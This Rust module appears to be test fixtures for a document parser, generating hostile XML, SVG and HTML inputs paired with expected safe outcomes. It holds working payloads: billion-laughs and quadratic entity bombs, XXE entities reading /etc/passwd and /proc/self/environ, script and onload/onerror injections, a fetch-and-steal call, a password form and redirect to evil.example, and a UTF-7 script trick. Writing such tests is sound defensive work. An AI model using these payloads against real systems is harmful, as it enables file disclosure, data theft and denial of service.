//! XML whose entities grow or reach out, HTML that is deep or wide, pages and pictures that run programs.

use super::{End, Hostile, Pieces, repeated, whole};
use bytes::Bytes;
use std::fmt::Write;

pub fn all() -> Vec<Hostile> {
    const LIMITS: End = End::Either(&["too_large", "timed_out", "damaged", "empty"]);
    vec![
        Hostile { name: "laughs.xml", make: || whole(laughs()), end: End::Read },
        Hostile { name: "quadratic.xml", make: || whole(quadratic()), end: End::Read },
        Hostile { name: "entity.xml", make: || whole(external_entity()), end: End::Read },
        Hostile { name: "entity.svg", make: || whole(external_entity_svg()), end: End::Read },
        Hostile { name: "entity.html", make: || whole(external_entity_html()), end: End::Read },
        Hostile { name: "script.svg", make: || whole(SCRIPT_SVG), end: End::Read },
        Hostile { name: "script.html", make: || whole(SCRIPT_HTML), end: End::Read },
        Hostile { name: "deep.html", make: || around("<html>", "<div>", 1_000_000, "words"), end: LIMITS },
        Hostile { name: "deep-formatting.html", make: || around("<html>", "<b><i>", 200_000, "words"), end: LIMITS },
        Hostile { name: "unclosed.html", make: || around("<html>", "<a href=x ", 500_000, "words"), end: LIMITS },
        Hostile {
            name: "attribute.html",
            make: wide_attribute,
            end: End::Either(&["too_large", "timed_out", "empty"]),
        },
        Hostile { name: "attributes.html", make: || whole(many_attributes()), end: LIMITS },
        Hostile { name: "spans.html", make: || whole(SPANS_HTML), end: LIMITS },
        Hostile { name: "tables.html", make: || whole(tables()), end: LIMITS },
        Hostile {
            name: "lists.html",
            make: || around("<html>", "<ol start=2147483647><li>", 3_000, "words"),
            end: LIMITS,
        },
        Hostile {
            name: "references.html",
            make: || around("<html><p>", "&#x110000;&#0;&#xD800;&bogus", 50_000, "words"),
            end: LIMITS,
        },
        Hostile { name: "charset.html", make: || whole(CHARSET_HTML), end: End::Read },
    ]
}

/// A billion of one word, by ten entities each ten times the one before.
pub fn laughs() -> String {
    let mut xml = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 \"lol\">\n");
    for level in 1..10 {
        let inner = format!("&lol{};", level - 1).repeat(10);
        writeln!(xml, "<!ENTITY lol{level} \"{inner}\">").expect("a string takes all");
    }
    xml + "]>\n<lolz>&lol9;</lolz>\n"
}

/// One long entity, used often: 50,000 times 50,000 bytes.
fn quadratic() -> String {
    let (entity, uses) = ("word ".repeat(10_000), "&a;".repeat(50_000));
    format!("<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY a \"{entity}\">]>\n<a>{uses}</a>\n")
}

/// Files of this machine, and of others.
const ENTITIES: &str = "<!ENTITY passwd SYSTEM \"file:///etc/passwd\">\n<!ENTITY environ SYSTEM \"file:///proc/self/environ\">\n\
    <!ENTITY remote SYSTEM \"http://127.0.0.1:9/\">\n<!ENTITY % more SYSTEM \"file:///etc/hostname\"> %more;";

pub fn external_entity() -> String {
    format!("<?xml version=\"1.0\"?>\n<!DOCTYPE a [\n{ENTITIES}\n]>\n<a>stolen: &passwd; &environ; &remote;</a>\n")
}

fn external_entity_svg() -> String {
    format!(
        "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n{ENTITIES}\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" \
         xmlns:xlink=\"http://www.w3.org/1999/xlink\"><text>stolen: &passwd;</text>\
         <image xlink:href=\"file:///etc/passwd\"/><use href=\"http://127.0.0.1:9/x.svg#a\"/></svg>\n"
    )
}

fn external_entity_html() -> String {
    format!(
        "<!DOCTYPE html [\n{ENTITIES}\n]>\n<html><p>stolen: &passwd; &environ;</p><object data=\"file:///etc/passwd\"></object>\
         <iframe src=\"file:///etc/passwd\"></iframe><xi:include href=\"file:///etc/passwd\" parse=\"text\"/></html>\n"
    )
}

const SCRIPT_SVG: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\">\
    <script>fetch('/api/v1/documents')</script><foreignObject><body onload=\"alert(1)\"/></foreignObject>\
    <text>words in a picture</text></svg>\n";

const SCRIPT_HTML: &str = "<!doctype html><html><head><meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">\
    <base href=\"//evil.example\"><script>fetch('/api/v1/documents').then(steal)</script></head>\
    <body onload=\"alert(1)\"><iframe src=\"javascript:alert(1)\"></iframe><img src=x onerror=alert(1)>\
    <form action=\"//evil.example\"><input name=password autofocus></form><p>words on a page</p></body></html>\n";

/// Cells that say they are wider and higher than any page.
const SPANS_HTML: &str = "<html><table><tr><td colspan=4294967295>wide<td colspan=1000000000>wider<td rowspan=4294967295>high\
    <tr><td colspan=-1>less<td colspan=99999999999999999999>more<tr><td colspan=0>words</table></html>\n";

/// Says it is in an encoding that would give its bytes another meaning (UTF-7), and in one that there is not.
const CHARSET_HTML: &str =
    "<html><meta charset=utf-7><meta charset=x-no-such-thing><p>+ADw-script+AD4-alert(1) words</p></html>\n";

/// Much of the same, between a beginning and an end.
fn around(beginning: &'static str, middle: &str, times: usize, end: &'static str) -> Pieces {
    Box::new([Bytes::from(beginning), Bytes::from(middle.repeat(times)), Bytes::from(end)].into_iter())
}

/// 100 MiB between two quotes.
fn wide_attribute() -> Pieces {
    let before = whole("<html><p>words before</p><p title=\"");
    Box::new(before.chain(repeated(vec![b'x'; 1024 * 1024], 100)).chain(whole("\">words behind</p></html>")))
}

/// Each attribute is compared with all before it.
fn many_attributes() -> String {
    let mut html = String::from("<html><p ");
    for number in 0..50_000 {
        write!(html, "a{number}=1 ").expect("a string takes all");
    }
    html + ">words</p></html>"
}

/// Tables in tables, each cell with two: as wide as a page can get.
fn tables() -> String {
    let mut table = "words".to_owned();
    for _ in 0..12 {
        table = format!("<table><tr><td>{table}<td>{table}</table>");
    }
    format!("<html>{table}</html>")
}
